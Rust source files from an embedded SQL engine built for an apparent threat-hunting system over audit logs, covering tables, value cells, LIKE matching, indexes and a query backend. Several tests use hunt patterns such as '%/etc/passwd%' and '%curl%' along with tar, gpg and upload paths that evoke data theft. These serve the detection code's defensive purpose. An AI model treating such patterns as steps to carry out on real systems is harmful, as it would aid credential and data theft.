        t.insert(&[Value::Int(1), Value::Null]).unwrap();
        t.insert(&[Value::Null, Value::Int(2)]).unwrap();
        let (za, zb) = (t.zone(0, 0), t.zone(1, 0));
        assert_eq!((za.nulls, za.non_null()), (1, 1));
        assert_eq!((zb.nulls, zb.non_null()), (1, 1));
        assert_eq!(za.ints.min(), Some(1));
    }
}
