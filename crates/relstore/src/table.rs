//! Row-major table storage.
//!
//! Rows live in one flat `Vec<Value>` (`arity` cells per row) for locality;
//! a row id is its ordinal. Tables are append-only — audit stores never
//! update or delete, which keeps indexes simple and scans dense.

use raptor_common::error::{Error, Result};

use crate::schema::TableSchema;
use crate::value::Value;

/// Row id inside one table.
pub type RowId = u32;

/// Append-only row-major table.
#[derive(Debug)]
pub struct Table {
    pub schema: TableSchema,
    data: Vec<Value>,
}

impl Table {
    pub fn new(schema: TableSchema) -> Self {
        Table { schema, data: Vec::new() }
    }

    pub fn len(&self) -> usize {
        if self.schema.arity() == 0 {
            return 0;
        }
        self.data.len() / self.schema.arity()
    }

    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// Appends a row; returns its id.
    pub fn insert(&mut self, row: &[Value]) -> Result<RowId> {
        if row.len() != self.schema.arity() {
            return Err(Error::storage(format!(
                "arity mismatch inserting into `{}`: got {}, want {}",
                self.schema.name,
                row.len(),
                self.schema.arity()
            )));
        }
        let id = self.len() as RowId;
        self.data.extend_from_slice(row);
        Ok(id)
    }

    /// Borrows a row.
    #[inline]
    pub fn row(&self, id: RowId) -> &[Value] {
        let a = self.schema.arity();
        let start = id as usize * a;
        &self.data[start..start + a]
    }

    /// One cell.
    #[inline]
    pub fn cell(&self, id: RowId, col: usize) -> Value {
        self.data[id as usize * self.schema.arity() + col]
    }

    /// Iterates `(RowId, &[Value])`.
    pub fn iter(&self) -> impl Iterator<Item = (RowId, &[Value])> {
        let a = self.schema.arity();
        self.data.chunks_exact(a).enumerate().map(|(i, row)| (i as RowId, row))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::{ColumnDef, ColumnType};

    fn schema() -> TableSchema {
        TableSchema::new(
            "t",
            vec![ColumnDef::new("a", ColumnType::Int), ColumnDef::new("b", ColumnType::Int)],
        )
    }

    #[test]
    fn insert_and_read() {
        let mut t = Table::new(schema());
        let r0 = t.insert(&[Value::Int(1), Value::Int(2)]).unwrap();
        let r1 = t.insert(&[Value::Int(3), Value::Int(4)]).unwrap();
        assert_eq!((r0, r1), (0, 1));
        assert_eq!(t.len(), 2);
        assert_eq!(t.row(1), &[Value::Int(3), Value::Int(4)]);
        assert_eq!(t.cell(0, 1), Value::Int(2));
    }

    #[test]
    fn arity_checked() {
        let mut t = Table::new(schema());
        assert!(t.insert(&[Value::Int(1)]).is_err());
    }

    #[test]
    fn iter_visits_all_rows() {
        let mut t = Table::new(schema());
        for i in 0..10 {
            t.insert(&[Value::Int(i), Value::Int(i * 2)]).unwrap();
        }
        let collected: Vec<i64> = t.iter().map(|(_, r)| r[1].as_int().unwrap()).collect();
        assert_eq!(collected, (0..10).map(|i| i * 2).collect::<Vec<_>>());
    }
}
