//! Value cells.
//!
//! Rows are flat arrays of [`Value`]: a 16-byte, `Copy` cell. Strings are
//! interned once per database, so string equality inside the executor is an
//! integer compare and `LIKE` evaluation can run over the dictionary instead
//! of over rows.

use raptor_common::intern::{Interner, Sym};

/// A stored cell. `Str` holds a handle into the owning database's interner.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Value {
    Int(i64),
    Str(Sym),
    Null,
}

impl Value {
    #[inline]
    pub fn as_int(self) -> Option<i64> {
        match self {
            Value::Int(i) => Some(i),
            _ => None,
        }
    }

    #[inline]
    pub fn as_sym(self) -> Option<Sym> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn is_null(self) -> bool {
        matches!(self, Value::Null)
    }

    /// Three-valued-logic-free ordering used by ORDER BY and range scans:
    /// Null < Int < Str; strings order by dictionary content.
    pub fn cmp_with(self, other: Value, dict: &Interner) -> std::cmp::Ordering {
        use std::cmp::Ordering::*;
        match (self, other) {
            (Value::Null, Value::Null) => Equal,
            (Value::Null, _) => Less,
            (_, Value::Null) => Greater,
            (Value::Int(a), Value::Int(b)) => a.cmp(&b),
            (Value::Int(_), Value::Str(_)) => Less,
            (Value::Str(_), Value::Int(_)) => Greater,
            (Value::Str(a), Value::Str(b)) => {
                if a == b {
                    Equal
                } else {
                    dict.resolve(a).cmp(dict.resolve(b))
                }
            }
        }
    }
}

/// A detached value — what query results hand back to callers, with strings
/// materialized so results outlive the database borrow.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum OwnedValue {
    Int(i64),
    Str(String),
    Null,
}

impl OwnedValue {
    pub fn from_value(v: Value, dict: &Interner) -> OwnedValue {
        match v {
            Value::Int(i) => OwnedValue::Int(i),
            Value::Str(s) => OwnedValue::Str(dict.resolve(s).to_string()),
            Value::Null => OwnedValue::Null,
        }
    }

    /// Renders for display (NULL renders as empty).
    pub fn render(&self) -> String {
        match self {
            OwnedValue::Int(i) => i.to_string(),
            OwnedValue::Str(s) => s.clone(),
            OwnedValue::Null => String::new(),
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            OwnedValue::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_int(&self) -> Option<i64> {
        match self {
            OwnedValue::Int(i) => Some(*i),
            _ => None,
        }
    }
}

impl std::fmt::Display for OwnedValue {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.render())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn value_is_small() {
        assert!(std::mem::size_of::<Value>() <= 16);
    }

    #[test]
    fn ordering_with_dictionary() {
        let mut dict = Interner::new();
        let a = Value::Str(dict.intern("alpha"));
        let b = Value::Str(dict.intern("beta"));
        assert_eq!(a.cmp_with(b, &dict), std::cmp::Ordering::Less);
        assert_eq!(a.cmp_with(a, &dict), std::cmp::Ordering::Equal);
        assert_eq!(Value::Null.cmp_with(a, &dict), std::cmp::Ordering::Less);
        assert_eq!(Value::Int(5).cmp_with(Value::Int(3), &dict), std::cmp::Ordering::Greater);
        assert_eq!(Value::Int(5).cmp_with(a, &dict), std::cmp::Ordering::Less);
    }

    #[test]
    fn owned_conversion() {
        let mut dict = Interner::new();
        let s = Value::Str(dict.intern("/etc/passwd"));
        assert_eq!(OwnedValue::from_value(s, &dict), OwnedValue::Str("/etc/passwd".into()));
        assert_eq!(OwnedValue::from_value(Value::Int(7), &dict), OwnedValue::Int(7));
        assert_eq!(OwnedValue::Null.render(), "");
    }
}
