//! Value cells.
//!
//! Rows are flat arrays of [`Value`] — the **shared-plane**
//! `raptor_storage::Value`: a 16-byte `Copy` cell whose strings are handles
//! into the dictionary shared with the graph store. String equality inside
//! the executor is an integer compare, `LIKE` evaluation runs over the
//! dictionary instead of over rows, and — because query results now leave
//! the database as the same type — the old `OwnedValue` materialization
//! layer is gone: strings render exactly once, at the engine's edge.

pub use raptor_storage::Value;

#[cfg(test)]
mod tests {
    use super::*;
    use raptor_common::SharedDict;

    #[test]
    fn value_is_small() {
        assert!(std::mem::size_of::<Value>() <= 16);
    }

    #[test]
    fn ordering_with_dictionary() {
        let dict = SharedDict::new();
        let a = Value::Str(dict.intern("alpha"));
        let b = Value::Str(dict.intern("beta"));
        assert_eq!(a.cmp_with(b, &dict), std::cmp::Ordering::Less);
        assert_eq!(a.cmp_with(a, &dict), std::cmp::Ordering::Equal);
        assert_eq!(Value::Null.cmp_with(a, &dict), std::cmp::Ordering::Less);
        assert_eq!(Value::Int(5).cmp_with(Value::Int(3), &dict), std::cmp::Ordering::Greater);
        assert_eq!(Value::Int(5).cmp_with(a, &dict), std::cmp::Ordering::Less);
    }

    #[test]
    fn render_through_dictionary() {
        let dict = SharedDict::new();
        let s = Value::Str(dict.intern("/etc/passwd"));
        assert_eq!(s.render(&dict), "/etc/passwd");
        assert_eq!(Value::Int(7).render(&dict), "7");
        assert_eq!(Value::Null.render(&dict), "");
    }
}
