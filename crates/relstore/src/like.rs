//! SQL `LIKE` pattern semantics.
//!
//! The matcher itself lives in [`raptor_common::like`] (it is shared with
//! the graph store's predicate lowering and the statistics plane's
//! selectivity estimation); this module re-exports it and adds literal-run
//! extraction so the trigram index can prune candidates.

pub use raptor_common::like::like_match;

/// The longest literal (wildcard-free) run in a LIKE pattern, used as a
/// necessary-substring filter: any match of the pattern must contain this
/// run *if* the run is bracketed by `%` on both sides (the common
/// `%literal%` shape compiled from TBQL). Returns `None` when no usable run
/// exists (pattern too short or not `%`-bracketed).
pub fn containment_literal(pattern: &str) -> Option<String> {
    // Only the simple shapes are accelerated: %lit%, %lit, lit%.
    if pattern.contains('_') {
        return None;
    }
    let runs: Vec<&str> = pattern.split('%').filter(|r| !r.is_empty()).collect();
    if runs.len() != 1 {
        return None;
    }
    let run = runs[0];
    if run.len() < 3 {
        // Shorter than one trigram: the index cannot help.
        return None;
    }
    // If the pattern has no leading %, matches must start with the run; the
    // trigram filter (containment) is still sound, just less tight.
    Some(run.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_extraction() {
        assert_eq!(containment_literal("%/bin/tar%"), Some("/bin/tar".into()));
        assert_eq!(containment_literal("%curl%"), Some("curl".into()));
        assert_eq!(containment_literal("/tmp/%"), Some("/tmp/".into()));
        // Two runs: not accelerated.
        assert_eq!(containment_literal("%a%bcd%"), None);
        // Underscore: not accelerated.
        assert_eq!(containment_literal("%ab_d%"), None);
        // Too short for a trigram.
        assert_eq!(containment_literal("%ab%"), None);
        assert_eq!(containment_literal("%%"), None);
    }

    #[test]
    fn extraction_is_sound() {
        // Every text matching the pattern must contain the literal.
        let cases = [("%/etc/passwd%", "/etc/passwd"), ("%upload%", "xx upload yy")];
        for (pat, text) in cases {
            assert!(like_match(pat, text));
            let lit = containment_literal(pat).unwrap();
            assert!(text.contains(&lit));
        }
    }
}
