//! SQL `LIKE` pattern semantics.
//!
//! TBQL attribute filters use `%`-wildcards ("`%` matches any character
//! sequence", Section III-D), and compiled SQL data queries carry them into
//! `LIKE` predicates. This module implements `LIKE` matching (`%` = any run,
//! `_` = any single character, no escape syntax — audit strings never need
//! one) and extracts the longest literal run from a pattern so the trigram
//! index can prune candidates.

/// Returns whether `text` matches the SQL LIKE `pattern`.
///
/// Iterative two-pointer algorithm with backtracking over the last `%` —
/// O(n·m) worst case, linear on patterns without `%`.
pub fn like_match(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let (mut pi, mut ti) = (0usize, 0usize);
    let mut star: Option<usize> = None;
    let mut star_ti = 0usize;
    while ti < t.len() {
        if pi < p.len() && (p[pi] == '_' || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == '%' {
            star = Some(pi);
            star_ti = ti;
            pi += 1;
        } else if let Some(s) = star {
            // Backtrack: let the last % absorb one more character.
            pi = s + 1;
            star_ti += 1;
            ti = star_ti;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == '%' {
        pi += 1;
    }
    pi == p.len()
}

/// The longest literal (wildcard-free) run in a LIKE pattern, used as a
/// necessary-substring filter: any match of the pattern must contain this
/// run *if* the run is bracketed by `%` on both sides (the common
/// `%literal%` shape compiled from TBQL). Returns `None` when no usable run
/// exists (pattern too short or not `%`-bracketed).
pub fn containment_literal(pattern: &str) -> Option<String> {
    // Only the simple shapes are accelerated: %lit%, %lit, lit%.
    if pattern.contains('_') {
        return None;
    }
    let runs: Vec<&str> = pattern.split('%').filter(|r| !r.is_empty()).collect();
    if runs.len() != 1 {
        return None;
    }
    let run = runs[0];
    if run.len() < 3 {
        // Shorter than one trigram: the index cannot help.
        return None;
    }
    // If the pattern has no leading %, matches must start with the run; the
    // trigram filter (containment) is still sound, just less tight.
    Some(run.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exact_without_wildcards() {
        assert!(like_match("/bin/tar", "/bin/tar"));
        assert!(!like_match("/bin/tar", "/bin/tar "));
        assert!(!like_match("/bin/tar", "/bin/ta"));
    }

    #[test]
    fn percent_wildcards() {
        assert!(like_match("%/bin/tar%", "/bin/tar"));
        assert!(like_match("%/bin/tar%", "/usr/bin/tar"));
        assert!(like_match("%upload%", "/tmp/upload.tar.bz2"));
        assert!(like_match("%.tar", "/tmp/upload.tar"));
        assert!(like_match("/tmp/%", "/tmp/upload.tar"));
        assert!(!like_match("%passwd%", "/etc/shadow"));
        assert!(like_match("%", ""));
        assert!(like_match("%%", "anything"));
    }

    #[test]
    fn underscore_wildcard() {
        assert!(like_match("/tmp/upload.ta_", "/tmp/upload.tar"));
        assert!(!like_match("/tmp/upload.ta_", "/tmp/upload.t"));
        assert!(like_match("_%", "x"));
        assert!(!like_match("_", ""));
    }

    #[test]
    fn multiple_percents_backtrack() {
        assert!(like_match("%a%b%", "xxaxxbxx"));
        assert!(!like_match("%a%b%", "xxbxxaxx"));
        assert!(like_match("%ab%ab%", "ababab"));
    }

    #[test]
    fn literal_extraction() {
        assert_eq!(containment_literal("%/bin/tar%"), Some("/bin/tar".into()));
        assert_eq!(containment_literal("%curl%"), Some("curl".into()));
        assert_eq!(containment_literal("/tmp/%"), Some("/tmp/".into()));
        // Two runs: not accelerated.
        assert_eq!(containment_literal("%a%bcd%"), None);
        // Underscore: not accelerated.
        assert_eq!(containment_literal("%ab_d%"), None);
        // Too short for a trigram.
        assert_eq!(containment_literal("%ab%"), None);
        assert_eq!(containment_literal("%%"), None);
    }

    #[test]
    fn extraction_is_sound() {
        // Every text matching the pattern must contain the literal.
        let cases = [("%/etc/passwd%", "/etc/passwd"), ("%upload%", "xx upload yy")];
        for (pat, text) in cases {
            assert!(like_match(pat, text));
            let lit = containment_literal(pat).unwrap();
            assert!(text.contains(&lit));
        }
    }
}
