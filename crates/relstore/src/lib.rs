//! An embedded relational engine with a SQL subset.
//!
//! ThreatRaptor stores parsed system entities and events in PostgreSQL and
//! compiles each TBQL event pattern into a small SQL data query
//! (Sections III-B, III-F). This crate is the PostgreSQL stand-in: an
//! in-process relational engine sized for audit workloads.
//!
//! Architecture, bottom to top:
//!
//! * [`value`] — 16-byte [`value::Value`] cells (integers, interned strings,
//!   null); strings intern into the shared dictionary plane
//!   (`raptor_common::SharedDict`) the engine hands both backends,
//! * [`schema`] — column/table schemas and the catalog,
//! * [`table`] — row-major storage (flat `Vec<Value>`) with append-only
//!   inserts,
//! * [`index`] — hash (equality), B-tree (ranges) and trigram
//!   (`LIKE '%lit%'` acceleration) secondary indexes,
//! * [`like`] — SQL `LIKE` semantics plus literal-run extraction for the
//!   trigram index,
//! * [`sql`] — lexer, AST and recursive-descent parser for the SQL subset,
//! * [`plan`] — logical plans; single-table predicates are pushed into
//!   scans, joins stay in written order (deliberately: the paper's giant
//!   compiled queries "weave many joins and constraints together" and the
//!   engine must exhibit that cost so the TBQL scheduler has something real
//!   to beat),
//! * [`exec`] — the executor: index scans, hash joins for equi predicates,
//!   nested loops + residual filters otherwise,
//! * [`db`] — the [`db::Database`] facade: DDL, inserts, `query(sql)`.

pub mod backend;
pub mod db;
pub mod exec;
pub mod index;
pub mod like;
pub mod plan;
pub mod schema;
pub mod sql;
pub mod table;
pub mod value;

pub use db::{Database, QueryResult};
pub use schema::{ColumnDef, ColumnType, TableSchema};
pub use value::Value;
