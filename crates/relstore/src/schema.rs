//! Table schemas and the catalog.

use raptor_common::error::{Error, Result};

/// Column type. `Time` is an `i64` nanosecond timestamp — kept distinct from
/// `Int` only for schema documentation; storage and comparisons are identical.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum ColumnType {
    Int,
    Str,
    Time,
}

/// One column definition.
#[derive(Clone, Debug)]
pub struct ColumnDef {
    pub name: String,
    pub ty: ColumnType,
}

impl ColumnDef {
    pub fn new(name: &str, ty: ColumnType) -> Self {
        ColumnDef { name: name.to_string(), ty }
    }
}

/// A table schema: ordered column definitions.
#[derive(Clone, Debug)]
pub struct TableSchema {
    pub name: String,
    pub columns: Vec<ColumnDef>,
}

impl TableSchema {
    pub fn new(name: &str, columns: Vec<ColumnDef>) -> Self {
        TableSchema { name: name.to_string(), columns }
    }

    /// Index of a column by name.
    pub fn column_index(&self, name: &str) -> Option<usize> {
        self.columns.iter().position(|c| c.name == name)
    }

    /// Index of a column, as an error if missing.
    pub fn require_column(&self, name: &str) -> Result<usize> {
        self.column_index(name).ok_or_else(|| {
            Error::storage(format!("unknown column `{}` in table `{}`", name, self.name))
        })
    }

    pub fn arity(&self) -> usize {
        self.columns.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn column_lookup() {
        let s = TableSchema::new(
            "events",
            vec![
                ColumnDef::new("id", ColumnType::Int),
                ColumnDef::new("optype", ColumnType::Str),
                ColumnDef::new("starttime", ColumnType::Time),
            ],
        );
        assert_eq!(s.column_index("optype"), Some(1));
        assert_eq!(s.column_index("nope"), None);
        assert!(s.require_column("starttime").is_ok());
        let err = s.require_column("nope").unwrap_err();
        assert!(err.to_string().contains("unknown column"));
        assert_eq!(s.arity(), 3);
    }
}
