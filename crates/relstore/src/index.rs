//! Secondary indexes.
//!
//! The paper creates indexes "on key attributes (e.g., file name, process
//! executable name, source/destination IP) for both databases to speed up
//! the search". Three kinds cover the compiled data queries:
//!
//! * [`HashIndex`] — equality lookups (`col = v`, `col IN (...)`, and the
//!   scheduler's injected `IN` filters),
//! * [`BTreeIndex`] — range scans over integer/time columns (TBQL windows),
//! * [`TrigramIndex`] — `LIKE '%lit%'` acceleration: maps character trigrams
//!   of *dictionary strings* to the interned symbols containing them, so a
//!   containment predicate first intersects posting lists over the (small)
//!   dictionary, then fans out to rows via the hash index.

use raptor_common::hash::FxHashMap;
use raptor_common::intern::{SharedDict, Sym};
use std::collections::BTreeMap;

use crate::table::RowId;
use crate::value::Value;

/// Equality index: value → row ids (insertion order).
#[derive(Debug, Default)]
pub struct HashIndex {
    map: FxHashMap<Value, Vec<RowId>>,
}

impl HashIndex {
    pub fn insert(&mut self, v: Value, row: RowId) {
        self.map.entry(v).or_default().push(row);
    }

    pub fn get(&self, v: Value) -> &[RowId] {
        self.map.get(&v).map(Vec::as_slice).unwrap_or(&[])
    }

    pub fn distinct_keys(&self) -> usize {
        self.map.len()
    }
}

/// Ordered index over integer (or time) keys.
#[derive(Debug, Default)]
pub struct BTreeIndex {
    map: BTreeMap<i64, Vec<RowId>>,
}

impl BTreeIndex {
    pub fn insert(&mut self, key: i64, row: RowId) {
        self.map.entry(key).or_default().push(row);
    }

    /// Rows with key in `[lo, hi]` (inclusive).
    pub fn range(&self, lo: i64, hi: i64) -> Vec<RowId> {
        let mut out = Vec::new();
        for rows in self.map.range(lo..=hi).map(|(_, v)| v) {
            out.extend_from_slice(rows);
        }
        out
    }
}

/// Extracts the byte-trigram set of a string (no padding; strings shorter
/// than 3 bytes produce nothing and are never pruned by the index).
fn trigrams(s: &str) -> impl Iterator<Item = [u8; 3]> + '_ {
    s.as_bytes().windows(3).map(|w| [w[0], w[1], w[2]])
}

/// Trigram index over the string dictionary.
///
/// Maintained per *column*: `add_sym` is called for every distinct symbol
/// that appears in the column. Candidate lookup intersects the posting lists
/// of the needle's trigrams; callers must still verify candidates (trigram
/// containment is necessary, not sufficient).
#[derive(Debug, Default)]
pub struct TrigramIndex {
    postings: FxHashMap<[u8; 3], Vec<Sym>>,
    indexed: raptor_common::FxHashSet<Sym>,
}

impl TrigramIndex {
    pub fn add_sym(&mut self, sym: Sym, dict: &SharedDict) {
        if !self.indexed.insert(sym) {
            return;
        }
        let s = dict.resolve(sym);
        let mut seen = raptor_common::FxHashSet::default();
        for g in trigrams(s) {
            if seen.insert(g) {
                self.postings.entry(g).or_default().push(sym);
            }
        }
    }

    /// Symbols whose strings *may* contain `needle` (needle must be ≥ 3
    /// bytes; shorter needles return `None` = cannot prune).
    pub fn candidates(&self, needle: &str) -> Option<Vec<Sym>> {
        if needle.len() < 3 {
            return None;
        }
        // Intersect posting lists, smallest first.
        let mut lists: Vec<&Vec<Sym>> = Vec::new();
        for g in trigrams(needle) {
            match self.postings.get(&g) {
                Some(l) => lists.push(l),
                None => return Some(Vec::new()), // a trigram nobody has
            }
        }
        lists.sort_by_key(|l| l.len());
        let mut result: raptor_common::FxHashSet<Sym> = lists[0].iter().copied().collect();
        for l in &lists[1..] {
            if result.is_empty() {
                break;
            }
            let set: raptor_common::FxHashSet<Sym> = l.iter().copied().collect();
            result.retain(|s| set.contains(s));
        }
        let mut v: Vec<Sym> = result.into_iter().collect();
        v.sort();
        Some(v)
    }

    pub fn indexed_count(&self) -> usize {
        self.indexed.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hash_index_lookup() {
        let mut idx = HashIndex::default();
        idx.insert(Value::Int(5), 0);
        idx.insert(Value::Int(5), 3);
        idx.insert(Value::Int(7), 1);
        assert_eq!(idx.get(Value::Int(5)), &[0, 3]);
        assert_eq!(idx.get(Value::Int(9)), &[] as &[RowId]);
        assert_eq!(idx.distinct_keys(), 2);
    }

    #[test]
    fn btree_range() {
        let mut idx = BTreeIndex::default();
        for i in 0..100 {
            idx.insert(i, i as RowId);
        }
        assert_eq!(idx.range(10, 12), vec![10, 11, 12]);
        assert_eq!(idx.range(99, 200), vec![99]);
        assert!(idx.range(200, 300).is_empty());
        assert_eq!(idx.range(0, 99).len(), 100);
    }

    #[test]
    fn trigram_candidates_contain_all_true_matches() {
        let dict = SharedDict::new();
        let mut idx = TrigramIndex::default();
        let strings = [
            "/bin/tar",
            "/usr/bin/tar",
            "/bin/bzip2",
            "/usr/bin/gpg",
            "/tmp/upload.tar",
            "/tmp/upload.tar.bz2",
            "/etc/passwd",
        ];
        let syms: Vec<Sym> = strings.iter().map(|s| dict.intern(s)).collect();
        for &s in &syms {
            idx.add_sym(s, &dict);
        }
        let cands = idx.candidates("tar").unwrap();
        // Everything containing "tar" must be among the candidates.
        for (i, s) in strings.iter().enumerate() {
            if s.contains("tar") {
                assert!(cands.contains(&syms[i]), "{s} missing");
            }
        }
        // Nothing without the trigrams sneaks in for this needle.
        for &c in &cands {
            assert!(dict.resolve(c).contains("tar"));
        }
    }

    #[test]
    fn trigram_short_needle_cannot_prune() {
        let dict = SharedDict::new();
        let mut idx = TrigramIndex::default();
        idx.add_sym(dict.intern("abc"), &dict);
        assert_eq!(idx.candidates("ab"), None);
    }

    #[test]
    fn trigram_unknown_needle_gives_empty() {
        let dict = SharedDict::new();
        let mut idx = TrigramIndex::default();
        idx.add_sym(dict.intern("/bin/tar"), &dict);
        assert_eq!(idx.candidates("zzzz").unwrap(), Vec::<Sym>::new());
    }

    #[test]
    fn add_sym_is_idempotent() {
        let dict = SharedDict::new();
        let mut idx = TrigramIndex::default();
        let s = dict.intern("/bin/tar");
        idx.add_sym(s, &dict);
        idx.add_sym(s, &dict);
        assert_eq!(idx.indexed_count(), 1);
        assert_eq!(idx.candidates("/bin/tar").unwrap(), vec![s]);
    }
}
