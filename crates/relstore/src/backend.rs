//! The typed [`StorageBackend`] implementation.
//!
//! Requests arrive as `raptor-storage` data structures and are lowered
//! straight to SQL *AST* (`sql::ast::Select`) — the lexer/parser are never
//! involved. From there the normal planner and executor run, so the typed
//! plane shares every access path (hash/btree/trigram indexes, pushdown,
//! hash joins) with parsed queries.

use raptor_common::error::{Error, Result};
use raptor_common::intern::SharedDict;
use raptor_storage::{
    AttrSource, BackendStats, EntityClass, EventPatternQuery, Field, FieldValue, MutableBackend,
    PathPatternQuery, PatternMatches, Pred, StorageBackend, Value as SVal, ValueColumn,
};

use crate::db::{Database, Ins};
use crate::exec::{execute, ExecStats};
use crate::plan::plan_select;
use crate::schema::TableSchema;
use crate::sql::ast::{CmpOp, ColRef, Expr, Literal, Projection, Select, TableRef};

/// Caps the per-statement `IN` chunk for attribute fetches.
const FETCH_CHUNK: usize = 4096;

pub fn table_for_class(class: EntityClass) -> &'static str {
    match class {
        EntityClass::File => "files",
        EntityClass::Process => "processes",
        EntityClass::NetConn => "netconns",
    }
}

fn col(alias: &str, column: &str) -> ColRef {
    ColRef::new(Some(alias), column)
}

fn lit(v: &SVal) -> Result<Literal> {
    match v {
        SVal::Int(i) => Ok(Literal::Int(*i)),
        // Pre-interned: the executor binds the handle without a dictionary
        // lookup.
        SVal::Str(s) => Ok(Literal::Interned(*s)),
        SVal::Null => Err(Error::semantic("NULL literals are not valid in predicates")),
    }
}

fn cmp_op(op: raptor_storage::CmpOp) -> CmpOp {
    match op {
        raptor_storage::CmpOp::Eq => CmpOp::Eq,
        raptor_storage::CmpOp::Ne => CmpOp::Ne,
        raptor_storage::CmpOp::Lt => CmpOp::Lt,
        raptor_storage::CmpOp::Le => CmpOp::Le,
        raptor_storage::CmpOp::Gt => CmpOp::Gt,
        raptor_storage::CmpOp::Ge => CmpOp::Ge,
    }
}

/// Lowers a typed predicate to a SQL expression over `alias`.
fn pred_to_expr(alias: &str, p: &Pred, dict: &SharedDict) -> Result<Expr> {
    Ok(match p {
        Pred::Cmp { attr, op, value } => {
            // `= '%…%'` keeps LIKE semantics, exactly as the text compiler
            // did (defensive: the TBQL lowering already emits `Pred::Like`).
            let wildcard = value.as_sym().map(|s| dict.resolve(s)).filter(|s| s.contains('%'));
            match (op, wildcard) {
                (raptor_storage::CmpOp::Eq, Some(s)) => {
                    Expr::Like { col: col(alias, attr), pattern: s.to_string(), negated: false }
                }
                (raptor_storage::CmpOp::Ne, Some(s)) => {
                    Expr::Like { col: col(alias, attr), pattern: s.to_string(), negated: true }
                }
                _ => Expr::CmpLit { col: col(alias, attr), op: cmp_op(*op), lit: lit(value)? },
            }
        }
        Pred::Like { attr, pattern, negated } => {
            Expr::Like { col: col(alias, attr), pattern: pattern.clone(), negated: *negated }
        }
        Pred::InSet { attr, negated, values } => Expr::InList {
            col: col(alias, attr),
            list: values.iter().map(lit).collect::<Result<Vec<_>>>()?,
            negated: *negated,
        },
        Pred::And(a, b) => Expr::And(
            Box::new(pred_to_expr(alias, a, dict)?),
            Box::new(pred_to_expr(alias, b, dict)?),
        ),
        Pred::Or(a, b) => Expr::Or(
            Box::new(pred_to_expr(alias, a, dict)?),
            Box::new(pred_to_expr(alias, b, dict)?),
        ),
        Pred::Not(inner) => Expr::Not(Box::new(pred_to_expr(alias, inner, dict)?)),
    })
}

fn id_in_expr(alias: &str, ids: &[i64]) -> Expr {
    // An empty candidate set must match nothing; `IN ()` is not
    // representable, so use the impossible id.
    let list = if ids.is_empty() {
        vec![Literal::Int(-1)]
    } else {
        ids.iter().map(|&i| Literal::Int(i)).collect()
    };
    Expr::InList { col: col(alias, "id"), list, negated: false }
}

fn in_expr_on(alias: &str, column: &str, ids: &[i64]) -> Expr {
    let list = if ids.is_empty() {
        vec![Literal::Int(-1)]
    } else {
        ids.iter().map(|&i| Literal::Int(i)).collect()
    };
    Expr::InList { col: col(alias, column), list, negated: false }
}

fn and_all(conds: Vec<Expr>) -> Option<Expr> {
    conds.into_iter().reduce(|a, b| Expr::And(Box::new(a), Box::new(b)))
}

impl Database {
    /// Plans and executes a programmatically-built SELECT (no SQL text).
    fn run_select(&self, sel: &Select, stats: &mut BackendStats) -> Result<QueryRows> {
        let plan = plan_select(self, sel)?;
        let (core, exec_stats) = execute(self, &plan)?;
        absorb_exec(stats, &exec_stats);
        stats.data_queries += 1;
        Ok(QueryRows { cols: core.cols })
    }
}

/// A columnar result from the typed plane: one [`ValueColumn`] per
/// projected column, consumed column-wise (never re-materialized as rows).
struct QueryRows {
    cols: Vec<ValueColumn>,
}

impl QueryRows {
    fn n_rows(&self) -> usize {
        self.cols.first().map_or(0, ValueColumn::len)
    }

    /// Takes column `i` out as an `i64` vector. The typed audit id/time
    /// columns arrive as dense `ValueColumn::Int`, so this is a move, not a
    /// conversion; non-int cells (defensively) map to `-1`.
    fn take_ints(&mut self, i: usize) -> Vec<i64> {
        match std::mem::replace(&mut self.cols[i], ValueColumn::Int(Vec::new())) {
            ValueColumn::Int(v) => v,
            c => (0..c.len()).map(|r| c.get(r).as_int().unwrap_or(-1)).collect(),
        }
    }
}

fn absorb_exec(stats: &mut BackendStats, exec: &ExecStats) {
    stats.items_scanned += exec.rows_scanned;
    stats.items_built += exec.tuples_built;
    stats.index_scans += exec.index_scans;
    stats.full_scans += exec.full_scans;
    stats.segments_scanned += exec.segments_scanned;
    stats.segments_pruned += exec.segments_pruned;
}

impl StorageBackend for Database {
    fn backend_name(&self) -> &'static str {
        "relational"
    }

    fn stats(&self) -> &raptor_storage::StoreStats {
        self.store_stats()
    }

    fn entity_candidates(
        &self,
        class: EntityClass,
        filter: &Pred,
        stats: &mut BackendStats,
    ) -> Result<Vec<i64>> {
        let alias = "x";
        let sel = Select {
            distinct: false,
            projections: vec![Projection::Col(col(alias, "id"))],
            from: vec![TableRef { table: table_for_class(class).to_string(), alias: alias.into() }],
            where_clause: Some(pred_to_expr(alias, filter, self.dict())?),
            order_by: vec![],
            limit: None,
        };
        let mut r = self.run_select(&sel, stats)?;
        // The one place candidates are canonicalized: downstream propagation
        // (`Propagation::set`/`union` in the engine) relies on the
        // sorted-distinct contract instead of re-sorting.
        let mut ids = r.take_ints(0);
        ids.sort_unstable();
        ids.dedup();
        Ok(ids)
    }

    fn match_event_pattern(
        &self,
        q: &EventPatternQuery,
        stats: &mut BackendStats,
    ) -> Result<PatternMatches> {
        let (s, e, o) = ("s", "e", "o");
        let mut conds: Vec<Expr> = vec![
            Expr::CmpCol { left: col(e, "subject"), op: CmpOp::Eq, right: col(s, "id") },
